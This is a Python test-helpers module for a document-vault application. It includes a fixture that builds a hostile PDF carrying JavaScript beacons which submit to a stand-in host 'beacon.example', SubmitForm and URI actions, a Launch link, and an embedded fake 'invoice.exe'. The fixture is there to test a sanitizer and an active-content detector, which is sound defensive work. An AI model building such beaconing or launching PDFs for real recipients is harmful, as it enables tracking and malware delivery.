"""Helpers shared by tests of several folders (no test module imports another)."""

from __future__ import annotations

import random
import time
from dataclasses import dataclass
from pathlib import Path

from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

from dossier.export.separate_process import PreloadedOriginals
from dossier.services import documents, people
from dossier.services.documents import DocumentView
from storage.vault import Vault
from tests.scans import TEXTS, page_image, scanned_pdf


def plaintext_found(folder: Path, texts: list[str]) -> list[str]:
    """Where any of ``texts`` lies readable in the files under ``folder`` (UTF-8 or UTF-16)."""
    found = []
    for path in folder.rglob("*"):
        if path.is_file():
            raw = path.read_bytes()
            for text in texts:
                encodings = (
                    text.encode("utf-8"),
                    text.encode("utf-16-le"),
                    text.encode("utf-16-be"),
                )
                if any(encoded in raw for encoded in encodings):
                    found.append(f"{text!r} in {path.relative_to(folder)}")
    return found


@dataclass
class Gate:
    """A moment a test controls across processes: the other side says it has arrived, then
    waits until the test opens the gate. Files, because a spawned child shares nothing else."""

    folder: Path

    @property
    def reached(self) -> bool:
        return (self.folder / "reached").exists()

    def open(self) -> None:
        (self.folder / "open").touch()

    def arrive_and_wait(self, limit_seconds: float = 120) -> None:
        (self.folder / "reached").touch()
        # Waiting for an event, not for a time: the limit only keeps a broken test from hanging.
        deadline = time.monotonic() + limit_seconds
        while not (self.folder / "open").exists() and time.monotonic() < deadline:
            time.sleep(0.01)


@dataclass
class GatedOriginals(PreloadedOriginals):
    """Preloaded annexes that stop at the first one the renderer reads until the gate opens."""

    gate_folder: str = ""

    def _wait_once(self) -> None:
        gate = Gate(Path(self.gate_folder))
        if not gate.reached:
            gate.arrive_and_wait()

    def file_bytes(self, document: DocumentView) -> bytes:
        self._wait_once()
        return super().file_bytes(document)

    def page_texts(self, document: DocumentView) -> list[str]:
        self._wait_once()
        return super().page_texts(document)


def hostile_pdf(path: Path, text: str = "Charge sheet of the Prosecutor General") -> Path:
    """A one-page PDF made as a persecuting state's office might send it: JavaScript when the
    page opens and in the document's names, a SubmitForm beacon in a form field's parent, URI
    and Launch links, an attached invoice.exe (as an annotation and as an embedded file)."""
    import pikepdf
    from reportlab.pdfgen.canvas import Canvas

    canvas = Canvas(str(path))
    canvas.drawString(72, 720, text)
    canvas.save()
    pdf = pikepdf.open(path, allow_overwriting_input=True)
    page = pdf.pages[0].obj

    def action(**entries: object) -> pikepdf.Dictionary:
        return pdf.make_indirect(pikepdf.Dictionary(**entries))  # type: ignore[arg-type]

    beacon = "this.submitForm('https://beacon.example/opened?where=' + app.viewerType);"
    page.AA = pikepdf.Dictionary(O=action(S=pikepdf.Name.JavaScript, JS=beacon))
    field = pdf.make_indirect(
        pikepdf.Dictionary(
            FT=pikepdf.Name.Tx,
            T=pikepdf.String("name"),
            AA=pikepdf.Dictionary(
                K=action(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://beacon.example"))
            ),
        )
    )
    widget = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, Rect=[72, 600, 300, 620],
        Parent=field,
    )  # fmt: skip
    field.Kids = pikepdf.Array([widget])
    uri = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[72, 700, 300, 730],
        A=action(
            S=pikepdf.Name.GoTo, D=pikepdf.Array([page, pikepdf.Name.Fit]),
            Next=action(S=pikepdf.Name.URI, URI=pikepdf.String("https://beacon.example/x")),
        ),
    )  # fmt: skip
    launch = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[72, 650, 300, 680],
        A=action(S=pikepdf.Name.Launch, F=pikepdf.String("invoice.exe")),
    )  # fmt: skip
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 not really a program", filename="invoice.exe")
    attachment = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[400, 700, 420, 720],
        FS=spec.obj,
    )  # fmt: skip
    page.Annots = pdf.make_indirect(pikepdf.Array([uri, launch, widget, attachment]))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))
    pdf.Root.OpenAction = action(S=pikepdf.Name.JavaScript, JS=beacon)
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(
            Names=pikepdf.Array(
                [pikepdf.String("beacon"), action(S=pikepdf.Name.JavaScript, JS=beacon)]
            )
        )
    )
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(
        pdf, b"MZ second copy", filename="invoice.exe"
    )
    pdf.save(path)
    return path


def active_content_in(path: Path) -> list[str]:
    """Everything in a PDF that could act when it is opened, described (empty: none). Walks
    the whole object graph from the trailer, direct objects included."""
    import pikepdf

    found: list[str] = []
    with pikepdf.open(path) as pdf:
        seen: set[tuple[int, int]] = set()
        pending: list[pikepdf.Object] = [pdf.trailer]
        while pending:
            obj = pending.pop()
            if isinstance(obj, pikepdf.Dictionary | pikepdf.Array | pikepdf.Stream) and (
                obj.is_indirect
            ):
                if obj.objgen in seen:
                    continue
                seen.add(obj.objgen)
            if isinstance(obj, pikepdf.Array):
                pending.extend(obj)
                continue
            if not isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
                continue
            kind = _name(obj.get("/S", ""))
            if "/JS" in obj or kind in ("/JavaScript", "/Launch", "/SubmitForm", "/URI",
                                         "/ImportData", "/Rendition"):  # fmt: skip
                found.append(f"action {kind}")
            if "/AA" in obj:
                found.append("an additional-actions dictionary")
            if _name(obj.get("/Subtype", "")) in ("/FileAttachment", "/RichMedia", "/Screen"):
                found.append(f"annotation {obj.get('/Subtype')}")
            if "/EmbeddedFiles" in obj:
                names = list(obj.EmbeddedFiles.get("/Names", pikepdf.Array()))
                ours = ("manifest.json", "annexes.json")  # the bundle's own fingerprints
                found += [f"attachment {n}" for n in list(names)[::2] if str(n) not in ours]
            pending.extend(obj.values())
    return found


def memory_counts(pid: int, needles: dict[str, bytes]) -> dict[str, int]:
    """How many times each needle lies in the readable memory of process ``pid`` (Linux)."""
    import re

    counts = dict.fromkeys(needles, 0)
    maps = Path(f"/proc/{pid}/maps").read_text().splitlines()
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for line in maps:
            match = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
            if not match or "[vvar]" in line or "[vsyscall]" in line:
                continue
            start, end = int(match.group(1), 16), int(match.group(2), 16)
            try:
                memory.seek(start)
                chunk = memory.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            for name, needle in needles.items():
                counts[name] += chunk.count(needle)
    return counts


def _name(value: object) -> str:
    """A PDF name as text; a hostile file's may not be UTF-8 (then it names nothing we seek)."""
    try:
        return str(value)
    except UnicodeDecodeError:
        return "?"


RULING_WORDS = [
    "court",
    "ruling",
    "appeal",
    "evidence",
    "journalist",
    "district",
    "detention",
    "суд",
    "решение",
]


def rulings_pdfs(folder: Path, count: int, pages: int) -> None:
    """``count`` PDFs of ``pages`` pages of varied words (so that they do not compress away)."""
    rng = random.Random(3)
    for index in range(count):
        drawn = canvas.Canvas(str(folder / f"ruling-{index:03d}.pdf"), pagesize=A4)
        for page in range(pages):
            for line in range(30):
                words = " ".join(rng.choice(RULING_WORDS) for _ in range(10))
                drawn.drawString(56, 800 - line * 20, f"{index}.{page}.{line} {words}")
            drawn.showPage()
        drawn.save()


def one_imported(vault: Vault, folder: Path, name: str, data: bytes) -> DocumentView:
    """``data`` imported as the file ``name`` for a person added for it."""
    person = people.add_person(vault, "Rinat Tukhvatshin", native_name="Ринат Тухватшин")
    path = folder / name
    path.write_bytes(data)
    report = documents.import_files(vault, [path], person_ids=[person.id])
    assert len(report.imported) == 1, report.skipped
    return report.imported[0]


def imported_scan(vault: Vault, tmp_path: Path, *pages: str, turn: int = 0) -> DocumentView:
    """A scanned PDF of the test texts in these languages imported, its last page turned."""
    images = [page_image(TEXTS[language]) for language in pages]
    images[-1] = images[-1].rotate(turn, expand=True, fillcolor=255)
    return one_imported(vault, tmp_path, "ruling-scan.pdf", scanned_pdf(images))
